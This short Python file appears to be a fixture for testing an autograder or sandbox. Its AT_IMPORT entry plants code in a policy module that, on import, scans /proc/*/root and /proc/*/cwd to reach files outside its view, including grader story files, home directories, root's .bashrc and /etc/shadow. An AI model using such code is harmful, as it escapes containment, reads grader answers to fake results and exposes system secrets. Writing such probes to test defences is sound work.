"""Leaves its own view of the files through /proc/*/root and /proc/*/cwd."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import os

def loot():
    found = []
    for pid in os.listdir("/proc"):
        for name in ("root", "cwd"):
            top = f"/proc/{pid}/{name}"
            for path in ("autograder/homeworks/hw3/stories/dqn.toml", "work", "home", "root/.bashrc", "etc/shadow"):
                try:
                    if os.path.isdir(f"{top}/{path}") and os.listdir(f"{top}/{path}"):
                        found.append(f"{top}/{path}")
                    elif os.path.isfile(f"{top}/{path}") and open(f"{top}/{path}").read():
                        found.append(f"{top}/{path}")
                except OSError:
                    pass
    return found[:5]
"""
}
